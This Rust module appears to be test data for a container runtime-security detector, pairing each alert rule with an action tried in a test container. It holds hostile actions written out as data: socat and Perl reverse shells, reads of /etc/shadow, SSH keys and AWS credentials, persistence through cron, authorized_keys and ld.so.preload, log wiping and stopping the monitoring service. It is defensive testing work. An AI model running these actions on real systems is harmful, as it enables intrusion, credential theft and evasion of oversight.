//! What is tried against each default rule. Paths are those of the container that a test makes, not of this machine.

use crate::ways::Operation::{self, Call, Link, Mode, Move, Read, Remove, Start, Symlink, Write};

/// A rule and something that it must see.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Row {
    /// Name of the rule.
    pub(crate) rule: &'static str,
    /// Shell commands before each try, whose alerts do not count.
    pub(crate) before: &'static str,
    /// What feeds the standard input of the command, as the beginning of a pipeline.
    pub(crate) input: &'static str,
    /// True if a program that does nothing stands for the one that is started, as part of the image.
    pub(crate) is_stand_in: bool,
    pub(crate) act: Operation,
}

const fn row(rule: &'static str, act: Operation) -> Row {
    Row {
        rule,
        before: ":",
        input: "",
        is_stand_in: false,
        act,
    }
}

impl Row {
    const fn after(self, before: &'static str) -> Self {
        Self { before, ..self }
    }

    const fn fed(self, input: &'static str) -> Self {
        Self { input, ..self }
    }
}

/// Starts a tool that the container lacks, or whose work it must not do.
const fn tool(rule: &'static str, path: &'static str, arguments: &'static [&'static str]) -> Row {
    Row {
        is_stand_in: true,
        ..row(rule, Start(path, arguments))
    }
}

const LISTENER: &str =
    "(echo exit | timeout 5 nc -l -N 127.0.0.1 4444 > /dev/null 2>&1 &) ; sleep 0.2";

pub(crate) const ROWS: &[Row] = &[
    // --- code that nobody installed
    row(
        "Fileless execution via memfd_create",
        Call(
            "$^F = 99; my $name = q(name); my $fd = syscall(319, $name, 0);
            system(qq(cat /bin/true >&$fd)); exec {qq(/proc/self/fd/$fd)} q(payload) or die",
        ),
    ),
    row(
        "Reverse shell",
        Start(
            "/usr/bin/socat",
            &["TCP:127.0.0.1:4444", "EXEC:/bin/sh,nofork"],
        ),
    )
    .after(LISTENER),
    row("Execution from /dev/shm", Start("/dev/shm/payload", &[]))
        .after("cp /bin/true /dev/shm/payload"),
    row(
        "Drop and execute new binary in container",
        Start("/opt/new", &[]),
    )
    .after("cp /bin/true /opt/new"),
    row(
        "Execution from a temporary directory",
        Start("/tmp/new", &[]),
    )
    .after("cp /bin/true /tmp/new"),
    row("Misleading program name", Start("%W/photo.png", &[])).after("cp /bin/true %W/photo.png"),
    row(
        "Program run from a directory for data",
        Start("/var/www/x", &[]),
    )
    .after("mkdir -p /var/www; busybox mount -t tmpfs none /var/www; cp /bin/true /var/www/x"),
    row(
        "Script run from a temporary directory",
        Start("/tmp/go", &[]),
    )
    .after("echo '#!/bin/sh' > /tmp/go; chmod +x /tmp/go"),
    row(
        "Shell reads its commands from a pipe",
        Start("/usr/bin/sh", &[]),
    )
    .fed("echo : | "),
    row(
        "Inline program opens a shell or a connection",
        Call("exec q(/bin/sh), q(-c), q(:)"),
    ),
    row(
        "Shell started by a text tool",
        Start("/usr/bin/find", &["/etc/hosts", "-exec", "sh", ";"]),
    )
    .fed("cat /dev/null | "),
    tool(
        "Command handed to the service manager",
        "/usr/bin/systemd-run",
        &["id"],
    ),
    row(
        "Netcat Remote Code Execution in Container",
        Start("/usr/bin/ncat", &["-e", "/bin/true", "127.0.0.1", "1"]),
    ),
    row(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        Call(
            "socket(S, 2, 1, 6) or die; my $to = pack(q(SnNx8), 2, 4444, 0x7f000001);
            connect(S, $to) or die; syscall(33, fileno(S), 0)",
        ),
    )
    .after(LISTENER),
    tool(
        "Launch Package Management Process in Container",
        "/usr/bin/pip3",
        &["install", "x"],
    ),
    // --- secrets
    row(
        "Search Private Keys or Passwords",
        Start("/usr/bin/find", &["%W", "-name", "id_ed25519"]),
    ),
    row(
        "Find AWS Credentials",
        Start("/usr/bin/grep", &["-r", "aws_secret_access_key", "%W"]),
    ),
    row("Read sensitive file untrusted", Read("/etc/shadow")),
    row(
        "Create Symlink Over Sensitive Files",
        Symlink("/etc/shadow", "%W/link"),
    )
    .after("rm -f %W/link"),
    row(
        "Create Hardlink Over Sensitive Files",
        Link("/etc/shadow", "/opt/link"),
    )
    .after("rm -f /opt/link"),
    row(
        "Search for credential files",
        Start("/usr/bin/find", &["%W", "-name", ".git-credentials"]),
    ),
    row(
        "Search for setuid programs",
        Start("/usr/bin/find", &["%W", "-perm", "-4000", "-type", "f"]),
    ),
    row("Read private key", Read("%W/.ssh/id_rsa"))
        .after("mkdir -p %W/.ssh; echo > %W/.ssh/id_rsa"),
    row(
        "Read stored credentials by a general tool",
        Read("%W/.aws/credentials"),
    )
    .after("mkdir -p %W/.aws; echo > %W/.aws/credentials"),
    row("Read shell history of a user", Read("%W/.bash_history"))
        .after("echo ls > %W/.bash_history"),
    row(
        "Read environment of another process",
        Read("/proc/1/environ"),
    ),
    row("Read memory of the kernel", Read("/dev/mem")).after(": > /dev/mem"),
    tool(
        "Password given to sudo by a pipe",
        "/usr/bin/sudo",
        &["-kS", "id"],
    )
    .fed("echo x | "),
    // --- more rights
    row(
        "Detect release_agent File Container Escapes",
        Write("%W/release_agent"),
    ),
    row("Write to kernel hook", Write("%W/uevent_helper")),
    row(
        "Mount in container",
        Start("/usr/bin/mount", &["-t", "tmpfs", "none", "/opt/busybox"]),
    ),
    row(
        "Change thread namespace",
        Call("syscall(272, 0x04000000) == 0 or die"),
    ),
    row(
        "Linux Kernel Module Injection Detected",
        Call("syscall(313, 99, 0, 0)"),
    ),
    row("Load kernel module", Call("syscall(175, 0, 0, 0)")),
    row("Load BPF program", Call("syscall(321, 5, 0, 0)")),
    tool(
        "Container started with the host's rights",
        "/usr/bin/docker",
        &["run", "--privileged", "x"],
    ),
    tool(
        "Client of a cluster or of containers in a container",
        "/usr/bin/kubectl",
        &["get", "pods"],
    ),
    row(
        "PTRACE attached to process",
        Call("syscall(101, 5, $$, 0, 0)"),
    ),
    row(
        "PTRACE anti-debug attempt",
        Call("syscall(101, 0, 0, 0, 0) == 0 or die"),
    ),
    row(
        "Write to memory of another process",
        Call(
            "my $child = fork // die; if (!$child) { sleep 9; exit }
            open my $f, q(+<), qq(/proc/$child/mem) or die; kill 9, $child",
        ),
    ),
    row(
        "Read memory of another process",
        Call("open my $f, q(<), q(/proc/1/mem) or die"),
    ),
    row("Set up io_uring", Call("syscall(425, 1, 0)")),
    row("Set Setuid or Setgid bit", Mode("4755", "%W/x")).after("cp -f /bin/true %W/x"),
    row(
        "Give capabilities to a file",
        Call(
            "my ($at, $name) = (q(%W/x), q(security.capability));
            my $value = pack(q(V5), 0x02000001, 1 << 7, 0, 0, 0);
            syscall(188, $at, $name, $value, 20, 0)",
        ),
    )
    .after("cp -f /bin/true %W/x"),
    // --- staying, and covering tracks
    row(
        "Preload library for all programs",
        Write("/etc/ld.so.preload"),
    ),
    row(
        "Preload library for all programs",
        Symlink("%W/x.so", "/etc/ld.so.preload"),
    )
    .after("rm -f /etc/ld.so.preload"),
    row(
        "Adding ssh keys to authorized_keys",
        Write("%W/.ssh/authorized_keys"),
    )
    .after("mkdir -p %W/.ssh"),
    row(
        "Adding ssh keys to authorized_keys",
        Move("/opt/x", "%W/.ssh/authorized_keys"),
    )
    .after("mkdir -p %W/.ssh; echo > /opt/x"),
    row("Schedule Cron Jobs", Write("/etc/cron.d/x")).after("mkdir -p /etc/cron.d"),
    row("Schedule Cron Jobs", Move("/opt/x", "/etc/cron.d/x"))
        .after("mkdir -p /etc/cron.d; echo > /opt/x"),
    row("Clear Log Activities", Write("/var/log/auth.log")),
    row("Delete log files", Remove("/var/log/auth.log")).after("echo > /var/log/auth.log"),
    row("Delete or rename shell history", Remove("%W/.bash_history"))
        .after("echo ls > %W/.bash_history"),
    row("Modify shell start-up file", Write("/root/.bashrc")),
    row(
        "Place unit or module outside of etc",
        Write("/usr/lib/systemd/system/x.service"),
    )
    .after("mkdir -p /usr/lib/systemd/system"),
    row(
        "Add program to the start of a session",
        Write("%W/.config/autostart/x.desktop"),
    )
    .after("mkdir -p %W/.config/autostart"),
    tool(
        "Account changed by hand",
        "/usr/sbin/useradd",
        &["-o", "-u", "0", "x"],
    ),
    row(
        "Hook into the start of Python",
        Write("%W/site-packages/x.pth"),
    )
    .after("mkdir -p %W/site-packages"),
    row("Git hook written", Write("%W/.git/hooks/pre-commit")).after("mkdir -p %W/.git/hooks"),
    row(
        "Script placed among web pages",
        Write("/var/www/html/x.php"),
    )
    .after("mkdir -p /var/www/html"),
    row(
        "Certificate authority added",
        Write("/usr/local/share/ca-certificates/x.crt"),
    )
    .after("mkdir -p /usr/local/share/ca-certificates"),
    tool(
        "Security service stopped",
        "/usr/bin/systemctl",
        &["stop", "falco"],
    ),
    tool("Audit rules changed", "/usr/sbin/auditctl", &["-D"]),
    tool(
        "Firewall opened",
        "/usr/sbin/iptables",
        &["-t", "nat", "-F"],
    ),
    row(
        "Protection of the kernel weakened",
        Call("open my $f, q(+<), q(/proc/sys/kernel/randomize_va_space) or die"),
    ),
    row(
        "Log or history led to nowhere",
        Symlink("/dev/null", "%W/.bash_history"),
    )
    .after("rm -f %W/.bash_history"),
    row("Journal or mail removed", Remove("/var/mail/root"))
        .after("mkdir -p /var/mail; echo >> /var/mail/root"),
    row(
        "Time of a file set by hand",
        Start("/usr/bin/touch", &["-t", "197001010000", "%W/x"]),
    ),
    row(
        "Clock of the machine set",
        Call("my $zone = pack(q(ll), 0, 0); syscall(164, 0, $zone) == 0 or die"),
    ),
    row("Configuration removed", Remove("/etc/group")).after("cp -f /etc/passwd /etc/group"),
    row("Modify binary dirs", Remove("/usr/bin/wc")).after("cp -f /usr/bin/true /usr/bin/wc"),
    row(
        "Change immutable bits",
        Call(
            "open(my $f, q(>), q(%W/x)) or die; my $flags = pack(q(Q), 0);
            ioctl($f, 0x40086602, $flags)",
        ),
    ),
    row(
        "Write below package database",
        Write("/var/lib/dpkg/status"),
    )
    .after("mkdir -p /var/lib/dpkg"),
    row("Write below binary dir", Write("/usr/local/bin/new")),
    row("Write below etc", Write("/etc/new")),
    row("Write below etc", Move("/opt/x", "/etc/new")).after("echo > /opt/x"),
    row("Write below root", Write("/new")),
    row("Write in the home of root", Write("/root/new")),
    // --- network, data and the machine
    row(
        "Remove Bulk Data from Disk",
        Start("/usr/bin/shred", &["%W/x"]),
    )
    .after("echo > %W/x"),
    row(
        "Packet socket created in container",
        Call("socket(S, 17, 3, 0) or die"),
    ),
    row(
        "Contact K8S API Server From Container",
        Start("/usr/bin/nc", &["-z", "-w1", "203.0.113.10", "443"]),
    ),
    row(
        "Contact cloud metadata service from container",
        Start("/usr/bin/nc", &["-z", "-w1", "169.254.169.254", "80"]),
    ),
    tool(
        "Tunnel by SSH",
        "/usr/bin/ssh",
        &["-fN", "-R", "8080:127.0.0.1:80", "host"],
    ),
    tool(
        "Network scanned or listened to",
        "/usr/bin/nmap",
        &["-sS", "127.0.0.1"],
    ),
    tool(
        "File server started from a command line",
        "/usr/bin/python3",
        &["-m", "http.server", "9099"],
    ),
    tool(
        "File uploaded from a command line",
        "/usr/bin/curl",
        &["-T", "/etc/hosts", "ftp://127.0.0.1/"],
    ),
    tool(
        "Archive with a password",
        "/usr/bin/zip",
        &["-qP", "secret", "x.zip", "x"],
    ),
    tool("Screen or clipboard captured", "/usr/bin/xwd", &["-root"]),
    tool(
        "Detect crypto miners using the Stratum protocol",
        "/usr/bin/x",
        &["-o", "stratum+tcp://pool.example:3333"],
    ),
    tool(
        "Machine stopped by hand",
        "/usr/sbin/shutdown",
        &["-h", "now"],
    ),
    row("Start-up of the machine changed", Write("/etc/rc.local")),
];

/// Rules that the ways are not tried against, each with the reason.
pub(crate) const NOT_TRIED: &[(&str, &str)] = &[
    ("Become root without a login program", OTHER_USER),
    (
        "Configuration edited at a terminal",
        "it is a trace of what people do at a terminal, and the ways have none",
    ),
    (
        "Container socket used by another program",
        "it needs a server at the other end of a socket",
    ),
    (
        "Debugfs Launched in Privileged Container",
        "it needs a container whose id is known",
    ),
    (
        "Directory traversal monitored file read",
        "it is about the look of a path itself",
    ),
    (
        "Disallowed SSH Connection Non Standard Port",
        "it needs a server of SSH",
    ),
    (
        "Library loaded from a temporary directory",
        "what loads it is the loader of any program",
    ),
    (
        "Library preloaded from a writable directory",
        "what loads it is the loader of any program",
    ),
    ("Netcat runs a program on the host", ON_THE_HOST),
    (
        "New binary run by a build in container",
        "it is a trace of what builds start, and what they do not start is another rule's",
    ),
    ("Own program run from a temporary directory", ON_THE_HOST),
    (
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        OTHER_USER,
    ),
    ("Raise capabilities without root", OTHER_USER),
    ("Read sensitive file trusted after startup", SERVER),
    ("Run shell untrusted", SERVER),
    (
        "Shell started without a history",
        "it is about the environment itself",
    ),
    ("Sniff packets", ON_THE_HOST),
    ("Sudo Potential Privilege Escalation", OTHER_USER),
    ("System user interactive", OTHER_USER),
    ("Terminal shell in container", "it needs a terminal"),
    ("Unprivileged userfaultfd", OTHER_USER),
];

const ON_THE_HOST: &str = "it is about the host, and the ways are tried in a container";
const OTHER_USER: &str = "it is about an ordinary user, and the ways are tried as root";
const SERVER: &str = "a server does it, whose program no attacker chooses";
